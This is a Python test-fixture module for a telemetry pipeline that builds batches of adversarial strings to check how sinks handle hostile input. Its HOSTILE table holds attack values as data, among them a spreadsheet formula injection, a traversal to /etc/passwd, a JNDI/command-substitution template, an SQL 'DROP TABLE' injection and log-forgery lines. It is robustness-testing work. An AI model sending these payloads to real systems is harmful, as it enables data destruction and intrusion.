"""Rows as an attacker would have them: every text that a client, a peer or a name can bring, in every position."""

from collections.abc import Mapping
from dataclasses import replace

import polars as pl

from telemetry.attributes import STRING_MAP
from telemetry.batch import Batch, Template
from telemetry.testing.batches import batch_of, marked

__all__ = ["HOSTILE", "hostile", "hostile_names", "megabytes"]

HOSTILE: Mapping[str, str] = {
    "quotes": "'\"`\\'\\\"",
    "newlines": "a\nb\r\nc\rd",
    "nul": "a\0b",
    "controls": "".join(map(chr, [*range(1, 32), *range(127, 160)])),
    "terminal": "\x1b[31mred\x1b]0;title\x07",
    "emoji": "🦊👩‍👩‍👧 ☃",
    "reordering": "\u202egpj.exe\u2066",
    "separators": ",;|=:/#& \t\u2028\u2029",
    "brackets": "{}[]()<>",
    "json": '","forged":true,"x":{"',
    "line": "x 1\nforged,tag=y value=1i",
    "exposition": 'x"} 1\nforged{a="b',
    "formula": "=cmd|' /C calc'!A0",
    "path": "../../../../etc/passwd",
    "template": "${jndi:ldap://x}{{7*7}}%s%n$(id)",
    "sql": "'; DROP TABLE entries; --",
    "noncharacters": "\ufffe\uffff\U0010ffff\ufeff",
    "combining": "e\u0301" + "\u0300" * 40,
    "word": "null",
    "empty": "",
}
"""Text, by what is bad about it. A String column can't hold what is not Unicode: lone surrogates never come."""

# What processors guarantee to be hex digits.
_GUARANTEED = frozenset({"span.trace_id", "span.id", "span.parent_id"})
_MEGABYTE = 1 << 20


def hostile(template: Template, *, sequence: int = 1) -> Batch:
    """Give a row for each text of HOSTILE, with it in every column that holds text, in every map, and in its mark.

    METRIC: in every label's value; names are as they should be (`hostile_names` has the others).
    """
    batch = batch_of(template, len(HOSTILE), sequence=sequence)
    texts = pl.Series(list(HOSTILE.values()), dtype=pl.String)
    rows = batch.rows.with_columns(_everywhere(batch, texts))
    return marked(replace(batch, rows=rows), [f"{sequence}-{text}" for text in HOSTILE.values()])


def _everywhere(batch: Batch, texts: pl.Series) -> list[pl.Series | pl.Expr]:
    if batch.template is Template.METRIC:
        labels = batch.rows.schema["labels"]
        assert isinstance(labels, pl.Struct)
        return [pl.struct([texts.alias(field.name) for field in labels.fields]).alias("labels")]
    maps = pl.select(pl.concat_list(pl.struct(key=texts, value=texts))).to_series()
    schema = batch.rows.schema.items()
    key = [pl.int_range(pl.len(), dtype=pl.UInt32).alias("context.key")] if "context.key" in batch.rows.columns else []
    return [
        *key,
        *(texts.alias(name) for name, dtype in schema if dtype == pl.String and name not in _GUARANTEED),
        *(maps.alias(name) for name, dtype in schema if dtype == STRING_MAP),
    ]


def hostile_names(*, sequence: int = 1) -> list[Batch]:
    """Give METRIC batches of a row each: hostile the metric's name and unit in one, the labels' names in the other.

    None is what a sink must take; it must come to no harm by any.
    """
    batches = []
    for at, text in enumerate(HOSTILE.values()):
        batch = batch_of(Template.METRIC, 1, sequence=sequence + 2 * at)
        named = batch.rows.with_columns(metric=pl.lit(text), unit=pl.lit(text))
        labels = pl.struct(pl.col("labels").struct.field("mark"), pl.lit("x").alias(text or " ")).alias("labels")
        batches.append(replace(batch, rows=named))
        batches.append(replace(batch, rows=batch.rows.with_columns(labels), sequence=batch.sequence + 1))
    return batches


def megabytes(template: Template, *, sequence: int = 1) -> Batch:
    """Give three rows; the second has a text of one megabyte (METRIC: in a label, EDGE: as a principal)."""
    batch = batch_of(template, 3, sequence=sequence)
    text = pl.Series([None, "é" * (_MEGABYTE // 2), None], dtype=pl.String)
    second = text.is_not_null()
    if template is Template.METRIC:
        field = pl.when(second).then(text).otherwise(pl.col("labels").struct.field("source_workload"))
        change = pl.col("labels").struct.with_fields(field.alias("source_workload"))
    elif template is Template.EDGE:
        change = pl.concat_list(text.fill_null("nobody")).alias("source.principals")
    else:
        name = "request.operation" if template is Template.HOP else "request.path"
        change = pl.coalesce(text, pl.col(name)).alias(name)
    return replace(batch, rows=batch.rows.with_columns(change))
